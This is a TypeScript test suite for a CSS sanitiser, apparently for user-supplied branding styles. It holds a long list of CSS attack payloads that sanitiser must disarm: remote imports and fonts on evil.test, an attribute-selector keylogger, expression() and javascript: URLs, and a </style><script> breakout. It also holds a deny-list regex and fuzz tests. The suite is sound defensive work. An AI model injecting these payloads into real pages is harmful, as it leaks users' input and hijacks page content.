import { parse, walk } from 'css-tree';
import fc from 'fast-check';
import { FUNCTIONS, PROPERTIES, SELECTOR_NODES } from './allowed-css.js';
import { sanitiseCss } from './sanitise-css.js';

const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Known ways to load, run, spoof or leak by CSS, and where each was seen. */
const ATTACKS: readonly [name: string, css: string][] = [
  ['an import', '@import url("https://evil.test/x.css");'],
  ['an import as text', "@import 'https://evil.test/x.css' screen;"],
  ['an escaped import', '@\\69mport url(https://evil.test/x.css);'],
  ['an import with six digits', '@\\000069mport "https://evil.test";'],
  ['a charset that shifts the meaning', '@charset "utf-7"; .a{color:red}'],
  ['a namespace', '@namespace x url(https://evil.test);'],
  ['a font from elsewhere', '@font-face{font-family:x;src:url(https://evil.test/f.woff)}'],
  ['a font range that counts letters', '@font-face{font-family:x;src:local(x);unicode-range:U+0041}'],
  ['a background from elsewhere', '.a{background:url(https://evil.test/p)}'],
  ['a quoted background', '.a{background:url("//evil.test/p")}'],
  ['an escaped url', '.a{background:\\75rl(https://evil.test/p)}'],
  ['a half escaped url', '.a{background:ur\\6c("https://evil.test/p")}'],
  ['an escape with its space', '.a{background:u\\72 l(https://evil.test/p)}'],
  ['an image set', '.a{background:image-set("https://evil.test/p" 1x)}'],
  ['the older image set', '.a{background:-webkit-image-set(url(https://evil.test/p) 1x)}'],
  ['a cross fade', '.a{background:cross-fade(url(https://evil.test/p),red)}'],
  ['src()', '.a{background:src("https://evil.test/p")}'],
  ['image()', '.a{background:image("https://evil.test/p")}'],
  ['a list picture', '.a{list-style:url(https://evil.test/p)}'],
  ['a cursor', '.a{cursor:url(https://evil.test/p),auto}'],
  ['a url in a variable', ':root{--x:url(https://evil.test/p)} .a{background:var(--x)}'],
  ['a block in a variable', ':root{--x:{background:url(https://evil.test/p)}}'],
  ['an SVG that runs', '.a{background:url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)}'],
  ['HTML as data', '.a{background:url("data:text/html,<script>alert(1)</script>")}'],
  ['data that is not what it says', '.a{background:url(data:image/png;base64,PHN2Zz48L3N2Zz4=)}'],
  ['javascript as url', '.a{background:url(javascript:alert(1))}'],
  ['an expression', '.a{width:expression(alert(1))}'],
  ['an expression parted by a comment', '.a{width:exp/**/ression(alert(1))}'],
  ['an escaped expression', '.a{width:expr\\65ssion(alert(1))}'],
  ['a behavior', '.a{behavior:url(#default#time2)}'],
  ['a binding', '.a{-moz-binding:url("https://evil.test/x.xml#x")}'],
  ['an escaped binding', '.a{-moz-bind\\69ng:url("https://evil.test/x.xml#x")}'],
  [
    'a filter of old',
    '.a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="https://evil.test")}',
  ],
  ['an SVG filter', '.a{filter:url(https://evil.test/f.svg#x)}'],
  ['a mask', '.a{mask:url(https://evil.test/f.svg#x)}'],
  ['a key logger by attribute', 'input[value^="a"]{background:url(https://evil.test/a)}'],
  ['an attribute alone', 'input[value="secret"]{color:red}'],
  ['an attribute inside :is()', ':is(.a,[value^="s"]){color:red}'],
  ['an attribute inside :not()', 'p:not([data-x]){color:red}'],
  ['an attribute inside nth', 'p:nth-child(1 of [value^="s"]){color:red}'],
  ['a look at the children', 'form:has(input){color:red}'],
  ['a look at the history', 'a:visited{color:red}'],
  ['an overlay', '.a{position:fixed;inset:0;z-index:9}'],
  ['an escaped overlay', '.a{pos\\69tion:fix\\65 d}'],
  ['an overlay by absolute', '.a{position:absolute;top:0}'],
  ['an overlay by variable', '.a{position:var(--x)}'],
  ['a shift over the text', '.a{margin-top:-500px}'],
  ['a computed shift', '.a{margin:calc(0px - 500px)}'],
  ['a shift in negative sums', '.a{margin:1px -5em}'],
  ['a hidden notice', '.a{display:none}'],
  ['a see-through notice', '.a{opacity:0;visibility:hidden}'],
  ['words put in the page’s mouth', '.a::after{content:"Enter your password"}'],
  ['an attribute read aloud', '.a::before{content:attr(value)}'],
  ['the end of the style element', '.a{font-family:"</style><script>alert(1)</script>"}'],
  ['the end of the style element in a name', '.\\3c\\2fstyle\\3e{color:red}'],
  ['a nested rule', '.a{color:red;& [value]{background:url(https://evil.test)}}'],
  ['a nested import', '.a{@import url(https://evil.test);}'],
  ['a support query', '@supports (background:url(https://evil.test)){.a{color:red}}'],
  ['a layer', '@layer x{.a{color:red}}'],
  ['a container', '@container (width>1px){.a{color:red}}'],
  ['a registered property', '@property --x{syntax:"*";inherits:false;initial-value:url(https://evil.test)}'],
  ['a document rule', '@-moz-document url-prefix(""){.a{color:red}}'],
  ['a page', '@page{background:url(https://evil.test)}'],
  ['a media query with a function', '@media (width:calc(1px*expression(1))){.a{color:red}}'],
  ['the star hack', '.a{*behavior:url(x)}'],
  ['an HTML comment around', '<!--@import url(https://evil.test);-->'],
  ['a string left open', '.a{font-family:"x\n;background:url(https://evil.test)}'],
  ['a url left open', '.a{background:url(https://evil.test'],
  ['importance', '.a{color:red!important}'],
  ['a picture by paint', '.a{background:paint(x)}'],
  ['an element as picture', '.a{background:element(#x)}'],
];

const DANGEROUS =
  /\\|<|@(?!media|keyframes)|evil|script|expression|behavior|binding|(?<!-)attr\(|!important|position:(?!relative|static)|display:none|opacity|visibility|content:|z-index|inset|\[|url\((?!data:image\/(png|jpeg|webp);)/i;

describe('sanitising CSS', () => {
  it.each(ATTACKS)('disarms %s', (_name, css) => {
    const { css: served, removed } = sanitiseCss(css);
    expect(served).not.toMatch(DANGEROUS);
    expect(removed.length + (css.startsWith('<!--') ? 1 : 0)).toBeGreaterThan(0);
    for (const { what, reason } of removed)
      expect([what.length <= 80, reason.length > 0]).toEqual([true, true]);
  });

  it('keeps what a brand needs, and says nothing of it', () => {
    const css =
      ':root{--accent:#0b6a5b}' +
      '\n.header h1{font:700 1.2rem/1.3"Open Sans",sans-serif;letter-spacing:.02em}' +
      '\n.chip:hover,.chip:focus-visible{background:linear-gradient(90deg,#fff,rgb(0 0 0/10%));margin:0 auto 4px}' +
      '\n@media (max-width:600px) and (prefers-color-scheme:dark){.card{border-radius:calc(1px + 2vw);position:relative}}' +
      '\n@keyframes glow{from{color:red}50%{color:var(--accent)}to{color:blue}}' +
      '\n.messages li:nth-child(2n+1){padding-inline-start:1rem}';
    expect(sanitiseCss(css)).toEqual({ css, removed: [] });
  });

  it('writes out what was escaped without need', () => {
    expect(sanitiseCss('.\\66oo{c\\6flor:r\\65 d}')).toEqual({ css: '.foo{color:red}', removed: [] });
  });

  it('lets an image in that is in the stylesheet and is one', () => {
    const css = `.a{background:url(data:image/png;base64,${PNG})}`;
    expect(sanitiseCss(css)).toEqual({ css, removed: [] });
    expect(sanitiseCss(css.replace('png', 'jpeg')).css).toBe('');
  });

  it('keeps the rest of a rule of which a part goes', () => {
    expect(sanitiseCss('.a{color:red;position:fixed;padding:1px}')).toEqual({
      css: '.a{color:red;padding:1px}',
      removed: [{ what: 'position:fixed', reason: 'position may not have this value' }],
    });
  });

  it.each(['a{b:'.padEnd(30_000, '('), '@media all{'.repeat(2_000), '[{('.repeat(5_000)])(
    'refuses what is nested without end',
    (css) =>
      expect(() => sanitiseCss(css)).toThrow(expect.objectContaining({ code: 'branding.css_unreadable' })),
  );

  // Pieces that mean something, glued in any order and broken anywhere: what comes out must read as allowed, and stay.
  const piece = fc.oneof(
    fc.constantFrom(
      ...[
        '@import ',
        '@media ',
        '@\\69mport ',
        '@keyframes x',
        'url(',
        '\\75rl(',
        '"',
        "'",
        '{',
        '}',
        '(',
        ')',
      ],
      ...[
        '[value^=a]',
        ';',
        ':',
        'a',
        '.b',
        '#c',
        'color',
        'red',
        'position',
        'fixed',
        'expression(',
        '/*',
        '*/',
      ],
      ...[
        '\\',
        '\\66 ',
        '\n',
        ' ',
        '!important',
        '--x',
        'var(--x)',
        'data:image/png;base64,',
        '<!--',
        '-->',
        '</style>',
      ],
      ...[
        'background',
        'https://evil.test',
        'margin',
        '-5px',
        '&',
        '>',
        ',',
        '%',
        '1',
        'behavior',
        '::after',
        ':has(',
      ],
    ),
    fc.string({ unit: 'binary', maxLength: 4 }),
  );

  it('serves only allowed nodes of whatever it is given, and finds nothing more to remove of them', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const { css } = sanitiseCss(pieces.join(''));
        expect(css).not.toMatch(/[\\<]/);
        const errors: unknown[] = [];
        const sheet = parse(css, { parseCustomProperty: true, onParseError: (error) => errors.push(error) });
        expect(errors).toEqual([]);
        walk(sheet, (node) => {
          if (node.type === 'Atrule') expect(['media', 'keyframes']).toContain(node.name);
          if (node.type === 'Declaration')
            expect(node.property.startsWith('--') || PROPERTIES.has(node.property)).toBe(true);
          if (node.type === 'Function') expect(FUNCTIONS.has(node.name.toLowerCase())).toBe(true);
          if (node.type === 'Url') expect(node.value).toMatch(/^data:image\/(png|jpeg|webp);base64,/i);
          expect(['Raw', 'AttributeSelector', 'NestingSelector', 'UnicodeRange']).not.toContain(node.type);
        });
        expect(sanitiseCss(css)).toEqual({ css, removed: [] });
      }),
      { numRuns: 3_000 },
    );
    expect(SELECTOR_NODES.has('AttributeSelector')).toBe(false);
  });
});
